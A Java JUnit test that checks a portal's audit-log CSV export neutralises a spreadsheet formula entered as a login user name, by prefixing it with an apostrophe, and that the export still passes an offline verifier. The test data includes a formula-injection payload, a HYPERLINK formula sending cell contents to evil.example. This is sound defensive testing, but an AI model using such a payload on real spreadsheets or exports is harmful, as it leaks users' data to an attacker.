package org.gmsaportal.web;

import java.net.CookieManager;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A formula typed as the user name at the sign-in form lands in the audit trail as the failed attempt's actor
 * and target; the CSV export writes both cells inert (one leading apostrophe, docs/audit-export.md), and the
 * offline verifier, which removes that apostrophe, still finds the export valid.
 */
class SpreadsheetSafeExportHttpTests extends PortalServerSupport {

	private static final Pattern CSRF = Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"");

	private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

	@TempDir
	Path dir;

	@Test
	void aFormulaTypedAsTheUserNameIsExportedInertAndTheExportStaysVerifiable() throws Exception {
		HttpClient stranger = client();
		assertThat(signIn(stranger, FORMULA, "wrong-password").headers().firstValue("Location"))
			.hasValueSatisfying(l -> assertThat(l).contains("/login?error"));

		HttpClient admin = client();
		signIn(admin, "admin", "test-admin-password");
		HttpResponse<String> export = admin.send(HttpRequest.newBuilder(URI.create(url("/audit/export.csv?action=auth.login")))
			.GET().build(), HttpResponse.BodyHandlers.ofString());
		assertThat(export.statusCode()).isEqualTo(200);
		String csv = export.body();

		// RFC 4180 quoting (the value holds commas and quotes) around the escaped value: actor and target.
		String inert = "\"'" + FORMULA.replace("\"", "\"\"") + "\"";
		assertThat(csv).contains("," + inert + ",PERSON,").contains(",auth.login," + inert + ",FAILURE,");
		assertThat(csv).doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");

		Path file = this.dir.resolve("audit-trail.csv");
		Files.writeString(file, csv, StandardCharsets.UTF_8);
		// An export of the sign-in events only: the other events are gaps the verifier is told to expect.
		Process python = new ProcessBuilder("python3", "scripts/verify-audit-csv.py", "--filtered", file.toString())
			.redirectErrorStream(true).start();
		String verdict = new String(python.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
		assertThat(python.waitFor(60, TimeUnit.SECONDS)).isTrue();
		assertThat(python.exitValue()).as(verdict).isZero();
		assertThat(verdict).startsWith("VALID: ");
	}

	private static HttpClient client() {
		return HttpClient.newBuilder().cookieHandler(new CookieManager()).build();
	}

	private HttpResponse<String> signIn(HttpClient client, String user, String password) throws Exception {
		String page = client.send(HttpRequest.newBuilder(URI.create(url("/login"))).GET().build(),
				HttpResponse.BodyHandlers.ofString()).body();
		Matcher csrf = CSRF.matcher(page);
		assertThat(csrf.find()).isTrue();
		String form = "username=" + enc(user) + "&password=" + enc(password) + "&_csrf=" + enc(csrf.group(1));
		return client.send(HttpRequest.newBuilder(URI.create(url("/login")))
			.header("Content-Type", "application/x-www-form-urlencoded")
			.POST(HttpRequest.BodyPublishers.ofString(form))
			.build(), HttpResponse.BodyHandlers.ofString());
	}

	private static String enc(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}

}
